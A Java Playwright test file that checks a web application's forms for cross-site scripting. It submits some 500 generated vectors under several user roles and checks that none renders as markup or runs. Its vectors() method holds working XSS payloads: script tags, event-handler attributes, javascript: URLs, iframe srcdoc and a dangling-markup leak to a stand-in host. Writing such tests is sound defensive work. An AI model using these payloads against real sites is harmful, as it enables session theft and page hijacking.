package mn.khamt.trust;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.LoadState;
import java.io.IOException;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import mn.khamt.TestKhamt;
import mn.khamt.access.Role;
import mn.khamt.journeys.Browser;
import mn.khamt.testing.Forms;
import mn.khamt.testing.TestPeople.TestPerson;
import mn.khamt.testing.Visitor;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * S07: five hundred ways to make a text run are sent through the public form and through every field into which colleagues type, and read
 * back by a real browser under each role. None becomes a tag or runs; and no page needs a script or a style that stands in it.
 */
class ScriptsJourney {
    private static final boolean FULL = Boolean.getBoolean("khamt.trust.full");
    private static final int ROUNDS = FULL ? 12 : 1;
    /** Every vector carries it as a tag or an attribute, so that one that became markup is found even where the policy stops it. */
    private static final String MARK = "zqx";

    private static final int PACK = 25;
    private static final Pattern TAG = Pattern.compile("<[a-zA-Z][^<>\"]*(?:\"[^\"]*\"[^<>\"]*)*>");
    private static final Pattern INLINE = Pattern.compile("(?i)^<style|\\sstyle=|\\son[a-z]+=|=\"\\s*javascript:");
    private static final Pattern SCRIPT = Pattern.compile("(?i)^<script(?![^>]*\\ssrc=)");
    private static final Pattern RECEIPT = Pattern.compile("class=\"receipt[^>]*>([^<]+)<");
    private static final List<String> VECTORS = vectors();

    private static TestKhamt khamt;
    private static Browser browser;
    private static Crew crew;
    private static int next;

    private static final Set<String> WRONG = new TreeSet<>();
    private static final Map<String, Integer> SHOWN = new HashMap<>();

    @BeforeAll
    static void start() throws IOException {
        khamt = TestKhamt.start();
        crew = Crew.at(khamt, "scripts");
        browser = Browser.of(khamt);
    }

    @AfterAll
    static void stop() {
        browser.close();
        khamt.close();
    }

    @Test
    void what_is_typed_stays_text_for_everybody_who_reads_it() {
        assertThat(VECTORS).hasSizeGreaterThanOrEqualTo(500);
        Page nobody = watched(null);
        String receipt = reported(nobody);
        var taken = new TreeSet<String>();
        Page again = watched(crew.person(Role.SOCIAL_WORKER));
        var kinds = new HashMap<String, Integer>();
        List<Crew.Sent> sent = crew.write(new Random(7), ROUNDS, 4, ScriptsJourney::text);
        for (Crew.Sent one : sent) {
            if (one.answer().status() < 400) {
                taken.add(Forms.kind(one.action()));
            } else if (one.answer().body().contains(MARK)
                    && kinds.merge(Forms.kind(one.action()), 1, Integer::sum) <= (FULL ? 50 : 2)) {
                // The page with the mistake repeats what was typed.
                again.setContent(one.answer().body());
                look(again, "again " + one.action());
            }
        }
        var opened = new LinkedHashSet<String>();
        for (Role role : crew.people().keySet()) {
            read(role, FULL ? new LinkedHashSet<>() : opened);
        }
        nobody.navigate("/q/receipt");
        nobody.fill("input[name=number]", receipt);
        nobody.locator("main form button[type=submit]").last().click();
        nobody.waitForLoadState(LoadState.NETWORKIDLE);
        look(nobody, "the receipt");
        System.out.printf(
                "%d vectors typed, %d kinds of form took them, pages read that show some: %s%n",
                Math.min(next, VECTORS.size()), taken.size(), SHOWN);
        assertThat(WRONG).isEmpty();
        assertThat(next).as("vectors typed").isGreaterThanOrEqualTo(500);
        assertThat(taken.size()).isGreaterThan(10);
        assertThat(SHOWN.keySet()).contains("SOCIAL_WORKER", "INTAKE_OFFICER", "again");
    }

    /** Through the public form, as the browser of the public sends it; answers the receipt's number. */
    private static String reported(Page page) {
        String receipt = "";
        for (int i = 0; i < 5; i++) {
            var visitor = new Visitor(khamt.address(), null);
            Forms.Seen form = Forms.on("/q", visitor.get("/q").body()).getFirst();
            var fields = new LinkedHashMap<>(form.filled(new Random(i), f -> ""));
            for (String field : List.of("worry", "who")) {
                fields.put(field, pack(PACK * 2));
            }
            fields.put("where", vector());
            fields.put("name", vector());
            fields.put("contact_rule", vector());
            fields.put("may_contact", "YES");
            fields.put("phone", "99112233");
            fields.put("at", "99");
            fields.put("go", "check");
            page.setContent(visitor.post("/q", fields).body());
            look(page, "again /q");
            fields.put("go", "send");
            Visitor.Answer answer = visitor.post("/q", fields);
            Matcher number = RECEIPT.matcher(answer.body());
            assertThat(number.find()).as(answer.body()).isTrue();
            receipt = number.group(1).replaceAll("\\D", "");
        }
        return receipt;
    }

    /**
     * Opens every page on which something of it stands, and one of each other kind.
     *
     * @param kinds the kinds that were opened
     */
    private static void read(Role role, Set<String> kinds) {
        TestPerson person = crew.person(role);
        Page page = watched(person);
        crew.forms(role).pages().forEach((path, body) -> {
            if (!body.regionMatches(true, 0, "<!doctype html", 0, 14)) {
                return; // a file, which a browser keeps and does not show
            }
            String plain = inline(body);
            if (!plain.isEmpty()) {
                WRONG.add(path + " has in itself " + plain);
            }
            if (body.contains(MARK) || kinds.add(Forms.kind(path))) {
                page.navigate(path);
                look(page, role + " " + path);
            }
        });
        page.context().close();
    }

    private static void look(Page page, String where) {
        if ((Boolean) page.evaluate("() => document.querySelector('[" + MARK + "], " + MARK + "') !== null")) {
            WRONG.add(where + ": a text became a tag: "
                    + page.evaluate("() => document.querySelector('[" + MARK + "], " + MARK + "').outerHTML"));
        }
        if (page.content().contains(MARK)) {
            SHOWN.merge(where.split(" ", 2)[0], 1, Integer::sum);
        }
    }

    /** A window that tells of every script of a vector that runs and of everything the content policy stops. */
    private static Page watched(@Nullable TestPerson person) {
        Page page = person == null ? browser.visitor("en", Browser.WIDE) : browser.of(person, Browser.WIDE);
        page.exposeFunction("khamtRan", arguments -> {
            WRONG.add("a script ran at " + page.url());
            return true;
        });
        page.exposeFunction("khamtStopped", arguments -> {
            if (!page.url().equals("about:blank")) {
                WRONG.add("the policy stopped " + List.of(arguments) + " at " + page.url());
            }
            return true;
        });
        page.addInitScript("""
            window.alert = window.confirm = window.prompt = () => window.khamtRan();
            document.addEventListener('securitypolicyviolation', e =>
              window.khamtStopped(e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sample));
            """);
        page.onDialog(dialog -> {
            WRONG.add("a dialogue opened at " + page.url());
            dialog.dismiss();
        });
        return page;
    }

    /** The first script, style or handler that stands in the page itself, or nothing. */
    private static String inline(String body) {
        Matcher tags = TAG.matcher(body);
        while (tags.find()) {
            String tag = tags.group();
            String names = tag.replaceAll("=\"(?!\\s*javascript:)[^\"]*\"", "=\"\"");
            if (SCRIPT.matcher(tag).find() || INLINE.matcher(names).find()) {
                return tag;
            }
        }
        return "";
    }

    // ---- the vectors ----

    private static String text(Forms.Field field) {
        boolean checked = Set.of("tel", "email", "numeric").contains(field.type())
                || Set.of("phone", "telephone", "registration_number").contains(field.name());
        if (checked && next % 3 != 0) {
            next++;
            return "";
        }
        return field.type().equals("textarea") ? pack(PACK) : vector();
    }

    private static String pack(int size) {
        var pack = new ArrayList<String>();
        for (int i = 0; i < size; i++) {
            pack.add(vector());
        }
        return String.join("\n", pack);
    }

    private static String vector() {
        return VECTORS.get(next++ % VECTORS.size());
    }

    /** Ways out of where a text may stand, and what could run there. */
    private static List<String> vectors() {
        List<String> ways = List.of(
                "",
                "\">",
                "'>",
                "</textarea>",
                "</title>",
                "</script>",
                "</option></select>",
                "-->",
                "]]>",
                "</p></div>",
                "\" ",
                "' ",
                "`",
                "&lt;",
                "\u2028",
                "<<",
                "</noscript>");
        List<String> acts = List.of(
                "<script zqx>khamtRan(1)</script>",
                "<ScRiPt zqx>alert(1)</sCrIpT>",
                "<img zqx src=x onerror=khamtRan(1)>",
                "<img zqx src=\"x\" onerror=\"alert(1)\">",
                "<svg zqx onload=khamtRan(1)>",
                "<svg><zqx/><script>khamtRan(1)</script></svg>",
                "<body zqx onload=khamtRan(1)>",
                "<iframe zqx srcdoc='<script>parent.khamtRan(1)</script>'></iframe>",
                "<iframe zqx src=javascript:parent.khamtRan(1)></iframe>",
                "<a zqx href=javascript:khamtRan(1)>x</a>",
                "<a zqx href='java\tscript:khamtRan(1)'>x</a>",
                "<details zqx open ontoggle=khamtRan(1)>",
                "<input zqx autofocus onfocus=khamtRan(1)>",
                "<video zqx><source onerror=khamtRan(1)></video>",
                "<math zqx><mtext><style><img src=x onerror=khamtRan(1)></style></math>",
                "<style zqx>*{background:url(//x.example)}</style>",
                "<link zqx rel=stylesheet href=//x.example/a.css>",
                "<meta zqx http-equiv=refresh content='0;url=javascript:khamtRan(1)'>",
                "<base zqx href=//x.example/>",
                "<form zqx action=javascript:khamtRan(1)><button>x",
                "<object zqx data=javascript:khamtRan(1)>",
                "<embed zqx src=javascript:khamtRan(1)>",
                "zqx onmouseover=khamtRan(1) autofocus onfocus=khamtRan(1) x=",
                "zqx style=animation-name:x onanimationstart=khamtRan(1) x=",
                "<img zqx src=//x.example/leak?",
                "<template zqx><script>khamtRan(1)</script></template>",
                "<zqx onpointerenter=khamtRan(1)>x</zqx>",
                "&#60;script zqx&#62;khamtRan(1)&#60;/script&#62;",
                "\\u003cscript zqx\\u003ekhamtRan(1)\\u003c/script\\u003e",
                "${khamtRan(1)} {{khamtRan(1)}} @{khamtRan(1)} zqx");
        var all = new ArrayList<String>();
        for (String way : ways) {
            for (String act : acts) {
                all.add(way + act);
            }
        }
        java.util.Collections.shuffle(all, new Random(7));
        return List.copyOf(Objects.requireNonNull(all));
    }
}
